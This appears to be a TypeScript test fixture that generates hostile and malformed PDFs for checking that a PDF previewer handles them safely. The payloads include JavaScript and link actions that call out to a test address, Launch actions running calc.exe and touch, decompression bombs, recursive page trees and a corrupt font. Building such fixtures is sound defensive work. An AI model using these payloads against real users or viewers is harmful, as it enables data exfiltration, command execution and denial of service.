import { constants, deflateRawSync } from 'node:zlib'

/** A PDF that is written to harm whoever looks at it, or is broken. */
export interface HostilePdf {
  readonly name: string
  readonly bytes: Buffer
  /** What its preview comes to: pages, a sentence, or either. */
  readonly ends: 'drawn' | 'refused' | 'either'
}

const PAGE = '/Type /Page /Parent 2 0 R /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R'
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

/** Objects from number 1 on, as bytes, with a table of where they are. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n')]
  let length = parts[0]?.length ?? 0
  const places: number[] = []
  const add = (part: Buffer) => {
    parts.push(part)
    length += part.length
  }
  for (const [index, object] of objects.entries()) {
    places.push(length)
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]))
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`
  return Buffer.concat([...parts, Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}${end}`)])
}

const stream = (content: string | Buffer, words = ''): Buffer => {
  const bytes = Buffer.from(content)
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${words} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ])
}

const TEXT = 'BT /F1 24 Tf 72 740 Td (Dear Ana) Tj ET'

/** One page; each part can be put in the place of the usual one. */
const letter = (
  part: {
    readonly catalog?: string
    readonly pages?: string
    readonly page?: string
    readonly font?: string
    readonly content?: Buffer
    readonly more?: readonly (string | Buffer)[]
    readonly trailer?: string
  } = {},
): Buffer =>
  pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${part.catalog ?? ''} >>`,
      part.pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>',
      `<< ${part.page ?? PAGE} >>`,
      part.font ?? FONT,
      part.content ?? stream(TEXT),
      ...(part.more ?? []),
    ],
    part.trailer,
  )

/** Deflated, `text` over and over: as many times a mebibyte as is wanted, in a kilobyte for each. */
export function deflateBomb(text: string, mebibytes: number): Buffer {
  const one = deflateRawSync(text.repeat(Math.ceil(2 ** 20 / text.length)), { finishFlush: constants.Z_FULL_FLUSH })
  return Buffer.concat([Buffer.of(0x78, 0x9c), ...Array.from({ length: mebibytes }, () => one), Buffer.of(3, 0)])
}

const FLATE = '/Filter /FlateDecode'
const image = (width: number, height: number, data: Buffer) =>
  stream(
    data,
    `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 ${FLATE}`,
  )

/** `address` is what none of them may ask for. */
export function hostilePdfs(address: string): readonly HostilePdf[] {
  const script = `<< /S /JavaScript /JS (app.launchURL\\("${address}script"\\); this.submitForm\\("${address}form"\\);) >>`
  const acts = [
    `<< /S /URI /URI (${address}uri) >>`,
    '<< /S /Launch /F (/usr/bin/touch) /Win << /F (calc.exe) >> >>',
    `<< /S /GoToR /F << /FS /URL /F (${address}other.pdf) >> /D [0 /Fit] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${address}submit) >> >>`,
    `<< /S /ImportData /F << /FS /URL /F (${address}data) >> >>`,
  ]
  const links = acts.map((act) => `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${act} >>`).join(' ')
  const images = Array.from({ length: 200 }, () => image(3900, 4000, deflateBomb('\0', 45)))
  const names = images.map((_, index) => `/I${index} ${index + 6} 0 R`).join(' ')
  const shown = images.map((_, index) => `q 595 0 0 842 0 0 cm /I${index} Do Q`).join(' ')
  const form = '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >>'
  const whole = letter()
  return [
    { name: 'script', ends: 'drawn', bytes: letter({ catalog: `/OpenAction ${script} /AA << /WC ${script} >>` }) },
    { name: 'actions', ends: 'drawn', bytes: letter({ page: `${PAGE} /Annots [${links}] /AA << /O ${acts[0]} >>` }) },
    {
      name: 'external image',
      ends: 'either',
      bytes: letter({ content: stream('', `/F << /FS /URL /F (${address}stream) >>`) }),
    },
    {
      name: 'looping pages',
      ends: 'refused',
      bytes: letter({ pages: '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>' }),
    },
    {
      name: 'millions of pages',
      ends: 'either',
      bytes: letter({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 900000000 /MediaBox [0 0 595 842] >>' }),
    },
    { name: 'a huge page', ends: 'refused', bytes: letter({ page: `${PAGE} /MediaBox [0 0 1000000000 1000000000]` }) },
    { name: 'a page without width', ends: 'either', bytes: letter({ page: `${PAGE} /MediaBox [0 0 0 0]` }) },
    { name: 'a ribbon', ends: 'drawn', bytes: letter({ page: `${PAGE} /MediaBox [0 0 1 900000]` }) },
    {
      name: 'units of another world',
      ends: 'refused',
      bytes: letter({ page: `${PAGE} /UserUnit 1${'0'.repeat(300)}` }),
    },
    { name: 'a bomb of nothing', ends: 'either', bytes: letter({ content: stream(deflateBomb(' ', 4096), FLATE) }) },
    {
      name: 'a bomb of drawing',
      ends: 'either',
      bytes: letter({ content: stream(deflateBomb('0 0 m 9 9 l S ', 4096), FLATE) }),
    },
    {
      name: 'bombs of images',
      ends: 'either',
      bytes: letter({
        page: PAGE.replace('/Font', `/XObject << ${names} >> /Font`),
        content: stream(shown),
        more: images,
      }),
    },
    {
      name: 'too large an image',
      ends: 'drawn',
      bytes: letter({
        page: PAGE.replace('/Font', '/XObject << /I 6 0 R >> /Font'),
        content: stream('/I Do'),
        more: [image(60_000, 60_000, deflateBomb('\0', 64))],
      }),
    },
    {
      name: 'a form in itself',
      ends: 'either',
      bytes: letter({
        page: PAGE.replace('/Font', '/XObject << /X 6 0 R >> /Font'),
        content: stream('/X Do'),
        more: [stream('/X Do /X Do', form)],
      }),
    },
    { name: 'a deep array', ends: 'either', bytes: letter({ page: `${PAGE} /Deep ${'['.repeat(200_000)}` }) },
    { name: 'a table cut off', ends: 'refused', bytes: whole.subarray(0, whole.indexOf('xref') + 12) },
    { name: 'a table before itself', ends: 'either', bytes: letter({ trailer: `/Prev ${whole.indexOf('xref')}` }) },
    {
      name: 'a password',
      ends: 'refused',
      bytes: letter({
        trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> /ID [<00> <00>]`,
      }),
    },
    {
      name: 'a broken font',
      ends: 'either',
      bytes: letter({
        font: '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 0 /LastChar 255 /Widths [] /FontDescriptor << /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile2 6 0 R >> >>',
        more: [stream(Buffer.alloc(60_000, '\0\x01\0\0\xff\x7fglyfloca', 'latin1'))],
      }),
    },
    {
      name: 'no PDF',
      ends: 'refused',
      bytes: Buffer.from(`%PDF-1.7\n<html><script>fetch("${address}html")</script></html>`),
    },
    { name: 'nothing', ends: 'refused', bytes: Buffer.from('%PDF-1.7\n') },
  ]
}
